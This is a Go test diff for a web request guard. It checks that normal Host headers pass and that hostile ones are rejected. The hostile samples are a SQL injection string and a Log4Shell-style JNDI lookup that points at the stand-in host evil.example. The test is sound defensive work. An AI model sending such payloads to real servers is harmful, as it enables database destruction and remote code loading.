@@ -485,3 +485,28 @@ func TestResponseScan(t *testing.T) {
 		})
 	}
 }
+
+// TestHostInspected: net/http accepts ' ( ) ; = in a Host, and the engine
+// used to skip it; a well-formed host (the server's own name) still passes.
+func TestHostInspected(t *testing.T) {
+	g, err := guard.New(guard.WithoutEnv())
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(204) }))
+	for host, want := range map[string]int{
+		"127.0.0.1:8080":                    204,
+		"shop.example.com":                  204,
+		"[::1]:8443":                        204,
+		"shop.example.com';DROP TABLE x;--": 403,
+		"a(b)=${jndi:ldap://evil.example}":  403,
+	} {
+		r := httptest.NewRequest("GET", "/", nil)
+		r.Host = host
+		w := httptest.NewRecorder()
+		h.ServeHTTP(w, r)
+		if w.Code != want {
+			t.Errorf("Host %q: status %d, want %d", host, w.Code, want)
+		}
+	}
+}
